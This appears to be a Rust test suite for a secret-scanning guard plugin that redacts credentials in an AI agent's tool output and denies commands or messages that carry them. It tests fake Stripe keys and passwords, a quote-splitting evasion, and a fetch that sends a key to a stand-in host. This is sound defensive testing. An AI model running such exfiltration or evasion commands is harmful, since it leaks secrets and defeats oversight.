//! The bundled `guard-secrets`, measured on its corpus and held to its promises.

mod corpus;

use std::collections::BTreeMap;
use std::ops::Range;

use instar_core::command::{Command, Found, SimpleCommand, Surroundings};
use instar_core::verdict::{Answer, Severity, Verdict};
use instar_plugin::{Plugins, Redaction, Settings};
use serde_json::json;

use crate::support::{call, load, load_with, settings, try_load};
use corpus::{Look, Sample};

fn guard() -> Plugins {
    load(&["guard-secrets"])
}

fn configured(config: serde_json::Value) -> Plugins {
    let configs = BTreeMap::from([("guard-secrets".parse().expect("an id"), config)]);
    load_with(&["guard-secrets"], Settings { configs, ..settings() })
}

fn scan(plugins: &Plugins, text: &[u8]) -> Vec<Redaction> {
    plugins.scan_output(&call(), "Bash", 0, text, true).expect("it is scanned").redactions
}

fn range(redaction: &Redaction) -> Range<usize> {
    let place = |place| usize::try_from(place).expect("an output fits into memory");
    place(redaction.start)..place(redaction.end)
}

fn blacked_out(sample: &Sample, redactions: &[Redaction]) -> bool {
    let mut secret = sample.secret.clone();
    for each in redactions {
        secret[range(each)].fill(false);
    }
    !secret.contains(&true)
}

/// Hits and misses of one half in one look.
#[derive(Default)]
struct Score {
    leaks: usize,
    clean: usize,
    missed: Vec<String>,
    alarms: Vec<String>,
}

impl Score {
    fn count(&mut self, sample: &Sample, redactions: &[Redaction]) {
        let kinds: Vec<_> = redactions.iter().map(|each| each.kind.as_str()).collect();
        let line = format!("{}: {kinds:?} {}", sample.family, String::from_utf8_lossy(&sample.text).escape_debug());
        if sample.is_leak() {
            self.leaks += 1;
            if !blacked_out(sample, redactions) {
                self.missed.push(line);
            }
        } else {
            self.clean += 1;
            if !redactions.is_empty() {
                self.alarms.push(line);
            }
        }
    }

    fn recall(&self) -> f64 {
        100.0 * (1.0 - self.missed.len() as f64 / self.leaks as f64)
    }

    fn false_alarms(&self) -> f64 {
        100.0 * self.alarms.len() as f64 / self.clean as f64
    }
}

#[test]
#[expect(clippy::print_stdout, reason = "both scores and each miss are to be read, also when all is well")]
fn nearly_all_credentials_are_found_and_nearly_nothing_else() {
    let plugins = guard();
    let samples = corpus::read();
    let mut is_good = true;
    for is_untouched in [false, true] {
        for look in [Look::Plain, Look::Coloured] {
            let mut score = Score::default();
            for sample in samples.iter().filter(|sample| sample.is_untouched == is_untouched) {
                let shown = sample.shown(look);
                score.count(&shown, &scan(&plugins, &shown.text));
            }
            let half = if is_untouched { "untouched" } else { "tuned" };
            println!(
                "{half:<10} {look:?}: recall {:.1} % of {}, false alarms {:.1} % of {}",
                score.recall(),
                score.leaks,
                score.false_alarms(),
                score.clean
            );
            score.missed.iter().for_each(|line| println!("  missed  {line}"));
            score.alarms.iter().for_each(|line| println!("  alarm   {line}"));
            is_good &= score.leaks >= 150 && score.recall() >= 98.0 && score.false_alarms() <= 1.0;
        }
    }
    assert!(is_good, "below the promise; the misses stand above");
}

/// Feeds an output piece by piece, as a host does that gives again what was held back.
fn stream(plugins: &Plugins, text: &[u8], piece: usize) -> Vec<Redaction> {
    let (mut redactions, mut begin, mut end) = (Vec::new(), 0, 0);
    while end < text.len() {
        end = text.len().min(end + piece);
        let last = end == text.len();
        let scan = plugins.scan_output(&call(), "Bash", begin as u64, &text[begin..end], last).expect("it is scanned");
        redactions.extend(scan.redactions);
        let next = end - scan.hold_back as usize;
        assert!(end - begin < 128 << 10, "nothing of {} bytes is let go", end - begin);
        begin = next;
    }
    redactions
}

#[test]
fn no_border_between_chunks_lets_a_credential_through() {
    let plugins = guard();
    let (mut text, mut secret) = (Vec::new(), Vec::new());
    for sample in corpus::read().iter().filter(|sample| sample.is_leak()) {
        text.extend_from_slice(&sample.text);
        secret.extend_from_slice(&sample.secret);
        text.extend_from_slice(b"\n\nnothing here\n\n");
        secret.resize(text.len(), false);
    }
    let all = Sample { family: "all".to_owned(), is_untouched: false, text, secret };
    for piece in [997, 4096, 65_536] {
        let mut left = all.secret.clone();
        for each in stream(&plugins, &all.text, piece) {
            left[range(&each)].fill(false);
        }
        let visible: Vec<_> = all.text.iter().zip(&left).filter(|(_, left)| **left).map(|(byte, _)| *byte).collect();
        assert_eq!(String::from_utf8_lossy(&visible), "", "in pieces of {piece}");
    }
}

#[test]
fn what_is_about_to_be_written_run_or_sent_is_judged_like_an_output() {
    let plugins = guard();
    for sample in corpus::read() {
        let text = String::from_utf8_lossy(&sample.text).into_owned();
        let input = json!({ "file_path": "notes.txt", "content": text }).to_string();
        let command = Command { tool: "Bash".to_owned(), raw: text.clone(), ..Command::default() };
        let verdicts = [
            plugins.check_tool(&call(), "Write", &input, &Surroundings::default()).verdict,
            plugins.check_command(&call(), &command).verdict,
            plugins.check_outbound(&call(), "telegram", &text),
        ];
        for verdict in verdicts {
            let is_stopped = verdict.answer() != Answer::Pass;
            assert_eq!(is_stopped, sample.is_leak(), "{text}: {verdict:?}");
        }
    }
}

/// A key of the kind that ends a company, in two halves.
const STRIPE: &str = concat!("sk_li", "ve_9Qw2Zx7Lm4Rt8Vb3Nc6Kp1Ds");
const PASSWORD: &str = "hK7vQ9-xT1bR";

#[test]
fn grave_kinds_are_denied_and_others_asked_about() {
    let plugins = guard();
    let run = |raw: String| {
        let command = Command { tool: "Bash".to_owned(), raw, ..Command::default() };
        plugins.check_command(&call(), &command).verdict
    };
    let denied = run(format!("curl -u {STRIPE}: https://api.stripe.com"));
    let [finding] = &denied.findings[..] else { panic!("{denied:?}") };
    assert_eq!((finding.rule.as_str(), finding.severity), ("guard-secrets/stripe-live-key", Severity::Critical));
    assert_eq!(denied.answer(), Answer::Deny);
    assert!(!format!("{denied:?}").contains(STRIPE), "a finding must not repeat the value");
    assert_eq!(run(format!("PGPASSWORD={PASSWORD} psql")).answer(), Answer::Ask);
    let sent = plugins.check_outbound(&call(), "mail", &format!("the password is {PASSWORD}"));
    assert_eq!(sent.answer(), Answer::Deny, "{sent:?}");
}

#[test]
fn quotes_within_a_word_hide_nothing() {
    let plugins = guard();
    let (start, end) = STRIPE.split_at(12);
    let raw = format!("echo {start}''{end}");
    let argv = vec!["echo".to_owned(), STRIPE.to_owned()];
    let found = Found { commands: vec![SimpleCommand { argv, ..SimpleCommand::default() }], ..Found::default() };
    let command = Command { tool: "Bash".to_owned(), raw, found, ..Command::default() };
    assert_eq!(plugins.check_command(&call(), &command).verdict.answer(), Answer::Deny);
}

#[test]
fn a_credential_may_be_taken_away_and_looked_for() {
    let plugins = guard();
    let edit = |old: &str, new: &str| {
        let input = json!({ "file_path": "a.env", "old_string": old, "new_string": new }).to_string();
        plugins.check_tool(&call(), "Edit", &input, &Surroundings::default()).verdict
    };
    let line = format!("KEY={STRIPE}");
    assert_eq!(edit(&line, "KEY=$KEY"), Verdict::pass());
    assert_eq!(edit("KEY=", &line).answer(), Answer::Deny);
    let other = |tool: &str, input: &str| plugins.check_tool(&call(), tool, input, &Surroundings::default()).verdict;
    assert_eq!(other("Grep", &json!({ "pattern": STRIPE }).to_string()), Verdict::pass());
    let fetch = json!({ "url": format!("https://x.io/?k={STRIPE}"), "prompt": "read" }).to_string();
    assert_eq!(other("WebFetch", &fetch).answer(), Answer::Deny);
}

#[test]
fn the_operator_decides_about_each_kind() {
    let text = format!("a {STRIPE} b");
    let ask = |config| {
        let plugins = configured(config);
        let scan = plugins.scan_output(&call(), "Bash", 0, text.as_bytes(), true).unwrap();
        let severities: Vec<_> = scan.escalate.iter().map(|finding| finding.severity).collect();
        (scan.redactions.len(), severities)
    };
    assert_eq!(ask(json!({})), (1, vec![Severity::Critical]));
    assert_eq!(ask(json!({ "kinds": { "stripe-live-key": "redact" } })), (1, vec![]));
    assert_eq!(ask(json!({ "kinds": { "stripe-live-key": "warn" } })), (0, vec![Severity::Critical]));
    assert_eq!(ask(json!({ "kinds": { "stripe-live-key": "off" } })), (0, vec![]));
    assert_eq!(ask(json!({ "ignore": [STRIPE] })), (0, vec![]));
    let warned = configured(json!({ "kinds": { "stripe-live-key": "warn" } })).check_outbound(&call(), "mail", &text);
    assert_eq!((warned.answer(), warned.findings.len()), (Answer::Pass, 1));
}

#[test]
fn a_kind_that_does_not_exist_is_refused() {
    let configs = BTreeMap::from([("guard-secrets".parse().unwrap(), json!({ "kinds": { "strip-key": "warn" } }))]);
    let (_, problems) = try_load(&["guard-secrets"], Settings { configs, ..settings() });
    assert_eq!(problems[0].code(), "bad-config");
    assert!(problems[0].to_string().contains("kinds.strip-key"), "{}", problems[0]);
}

#[test]
fn a_text_of_the_largest_size_is_scanned_within_the_limits_of_a_guard() {
    let mut within = settings();
    within.limits.guard.memory_bytes = instar_plugin::Limits::default().guard.memory_bytes;
    let plugins = load_with(&["guard-secrets"], within);
    // Texts that are nothing but beginnings must not take longer than others by orders.
    let units = [
        "\x1b[31mred\x1b[0m ",
        "{\\\"password\\\": \\\"x\\\"}",
        "password=hK7vQ9-xT1bR\n",
        "plain words in a line\n",
        "password=",
        "-----BEGIN PRIVATE KEY-----",
        "eyJhbGciOiJIUzI1NiJ9.",
        "mysql -p",
        "curl -u a:",
        "key=a",
        "://",
        "LS0tLS1CRUdJTi",
        "token for ",
    ];
    for unit in units {
        let text = unit.repeat((1 << 20) / unit.len() - 1);
        let scan = plugins.scan_output(&call(), "", 0, text.as_bytes(), true);
        assert!(scan.is_ok(), "{unit:?}: {scan:?}");
    }
}
